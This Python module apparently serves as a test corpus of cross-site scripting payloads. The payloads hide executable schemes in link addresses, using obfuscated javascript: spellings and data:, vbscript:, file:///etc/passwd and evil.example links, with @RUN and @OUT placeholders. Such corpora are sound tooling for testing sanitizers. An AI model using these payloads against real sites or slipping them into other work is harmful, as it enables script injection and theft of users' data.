"""Vectors that hide in the address of a link: schemes that run, in every spelling that a browser forgives."""

from __future__ import annotations

FAMILIES = {
    "javascript addresses": (
        "<a href=javascript:@RUN>click</a>",
        "<a href=' javascript:@RUN'>click</a>",
        "<a href='\x01javascript:@RUN'>click</a>",
        "<a href='java\tscript:@RUN'>click</a>",
        "<a href='java\nscript:@RUN'>click</a>",
        "<a href='java&Tab;script&colon;@RUN'>click</a>",
        "<a href='java&NewLine;script:@RUN'>click</a>",
        "<a href='&#106;&#x61;vascript:@RUN'>click</a>",
        "<a href='&#0000106avascript&#58;@RUN'>click</a>",
        "<a href=JaVaScRiPt:@RUN>click</a>",
        "<a href='javascript://x%0a@RUN'>click</a>",
        "<a href='javascript:/*https://acme.com*/@RUN'>click</a>",
        "<a href='https://acme.com' href2=x onclick=@RUN>click</a>",
        "<a target=_self href='&#x6A;avascript&#x3A;@RUN'>click</a>",
        "<area href=javascript:@RUN><map name=m><area href=javascript:@RUN shape=default></map><img usemap=#m src=x "
        "onerror=@RUN>",
        "<form><button type=submit formaction='java\rscript:@RUN'>click</button></form>",
    ),
    "other addresses": (
        "<a href='data:text/html,<script>@RUN</script>'>click</a><svg onload=@RUN>",
        "<a href='data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDEpPC9zY3JpcHQ+'>click</a><svg onload=@RUN>",
        "<a href=vbscript:msgbox(1)>click</a><a href=javascript:@RUN>click</a>",
        "<a href=blob:https://evil.example/1>click</a><img src=@OUT/blob>",
        "<a href=file:///etc/passwd>click</a><img src=@OUT/file>",
        "<a href='view-source:javascript:@RUN'>click</a><a href='feed:javascript:@RUN'>x</a><img src=@OUT/view>",
        "<a href='jar:javascript:@RUN!/'>click</a><a href='intent://scan/#Intent;end'>x</a><img src=@OUT/intent>",
        "<a href=//evil.example/relative>click</a>",
        "<a href='\\\\evil.example\\share'>click</a>",
        "<a href=@OUT/named target=opener rel=opener>click</a>",
    ),
}
